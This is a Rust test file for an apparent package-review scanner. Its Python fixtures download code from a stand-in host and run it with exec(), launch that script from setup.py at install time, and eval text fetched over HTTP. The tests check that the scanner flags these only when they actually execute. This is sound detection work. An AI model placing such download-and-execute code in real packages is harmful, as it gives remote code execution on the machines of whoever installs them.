//! Honest packages that do alarming things, each beside the variant that is accused.

use crate::place::Place;

/// The malicious behaviors of a package of these files.
fn accused(files: &[(&str, &str)]) -> Vec<String> {
    let mut place = Place::new();
    for (name, text) in files {
        place = place.file(&format!("pkg/{name}"), text);
    }
    let review = place.run(&["review", "pkg", "--format", "json", "--fail-on", "none"]).json();
    let behaviors = review["behaviors"].as_array().unwrap().iter();
    behaviors
        .filter(|found| found["stance"] == "malicious")
        .map(|found| found["id"].as_str().unwrap().to_owned())
        .collect()
}

/// What executes what a server answers, in one file.
const BOOTSTRAP: &str = "from urllib.request import urlopen\n\nnames = {}\nexec(urlopen('https://tools.example.invalid/ez.py').read(), names)\nnames['prepare']()\n";

#[test]
fn a_script_that_nothing_starts_is_not_what_a_package_does() {
    let setup = "from setuptools import setup\nsetup(name='one', version='1', packages=['one'])\n";
    let own = [("setup.py", setup), ("one/__init__.py", "VERSION = 1\n")];
    let with = |path, text| accused(&[own[0], own[1], (path, text)]);
    assert_eq!(with("bootstrap.py", BOOTSTRAP), [""; 0]);
    assert!(with("one/bootstrap.py", BOOTSTRAP).contains(&"execution/downloaded".to_owned()));
    let importing =
        accused(&[("setup.py", setup), ("one/__init__.py", "from . import boot\n"), ("one/boot.py", BOOTSTRAP)]);
    assert!(importing.contains(&"execution/downloaded".to_owned()), "{importing:?}");
    let started = "import subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, 'bootstrap.py'])\nsetup(name='one', version='1', packages=['one'])\n";
    let started = accused(&[("setup.py", started), own[1], ("bootstrap.py", BOOTSTRAP)]);
    assert!(started.contains(&"execution/downloaded".to_owned()), "{started:?}");
    assert!(accused(&[("bootstrap.py", BOOTSTRAP)]).contains(&"execution/downloaded".to_owned()));
}

/// What is received only where somebody calls is not executed on import.
#[test]
fn a_value_goes_from_source_to_sink_when_both_run() {
    let setup = "from setuptools import setup\nsetup(name='one', version='1', packages=['one'])\n";
    let values = "def value(text):\n    return eval(compile(text, '', 'eval'))\n\nSIZE = value('4 * 8')\n";
    let called =
        "import requests\nfrom .values import value\n\ndef size(url):\n    return value(requests.get(url).text)\n";
    let files = |last: &str| {
        accused(&[
            ("setup.py", setup),
            ("one/__init__.py", "from . import values, remote\n"),
            ("one/values.py", values),
            ("one/remote.py", &format!("{called}{last}")),
        ])
    };
    assert_eq!(files(""), [""; 0]);
    let at_import = files("\nsize('https://size.example.invalid/')\n");
    assert!(at_import.contains(&"dropper/unasked".to_owned()), "{at_import:?}");
}
